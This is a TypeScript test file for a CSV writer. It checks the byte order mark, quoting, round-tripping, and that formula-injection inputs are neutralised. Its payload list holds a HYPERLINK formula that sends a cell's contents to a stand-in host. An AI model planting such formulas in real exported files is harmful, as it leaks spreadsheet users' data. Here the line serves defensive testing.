import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { csvDocument, neutraliseFormula } from "./csv";

/** As a program reads the file: csv-parse, strict (no relaxed quotes or column counts), skipping the BOM. */
const read = (csv: string) => parse(csv, { bom: true, record_delimiter: "\r\n" }) as string[][];

describe("the CSV writer", () => {
  it("starts with the UTF-8 byte order mark, then the header; CRLF ends every record", () => {
    const csv = csvDocument(["name", "n"], [["Zoë 김민준", 1]]);
    assert.equal(Buffer.from(csv, "utf8").subarray(0, 3).toString("hex"), "efbbbf");
    assert.equal(csv, "\uFEFFname,n\r\nZoë 김민준,1\r\n");
    assert.deepEqual(read(csv), [["name", "n"], ["Zoë 김민준", "1"]]);
  });

  it("a text cell a spreadsheet would run as a formula is written as text; a number the app computed stays a number", () => {
    const payloads = ["=1+2", '=HYPERLINK("http://x.test/?d="&A1,"x")', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1"];
    const [, row] = read(csvDocument(payloads.map(() => "h"), [payloads]));
    assert.deepEqual(row, payloads.map((p) => `'${p}`));
    assert.deepEqual(read(csvDocument(["n", "x", "b", "none"], [[-3, 92.6, false, null]]))[1], ["-3", "92.6", "false", ""]);
    // Text that only looks like a number is text: someone typed it.
    assert.equal(neutraliseFormula("-3"), "'-3");
    assert.equal(neutraliseFormula("a=1"), "a=1");
  });

  it("quotes commas, quotes and any line break (CR or LF alone too), so each cell reads back whole", () => {
    const cells = ["a,b", 'say "hi"', "one\ntwo", "one\rtwo", "one\r\ntwo"];
    const csv = csvDocument(["a", "b", "c", "d", "e"], [cells]);
    assert.equal(csv.split("\r\n")[1], '"a,b","say ""hi""","one\ntwo","one\rtwo","one');
    assert.deepEqual(read(csv)[1], cells);
  });

  it("any text round-trips as itself or, when it would start a formula, as itself behind one quote; no cell read back starts a formula", () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(fc.string(), fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", ";", ",", '"')), { minLength: 3, maxLength: 3 }), { maxLength: 5 }), (rows) => {
        const cells = rows.map((r) => [r.join("")]);
        const back = read(csvDocument(["text"], cells)).slice(1);
        assert.equal(back.length, cells.length);
        back.forEach(([cell], i) => {
          const text = cells[i]![0]!;
          assert.equal(cell, /^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text);
          assert.doesNotMatch(cell!, /^[=+\-@\t\r\n]/);
        });
      }),
    );
  });
});
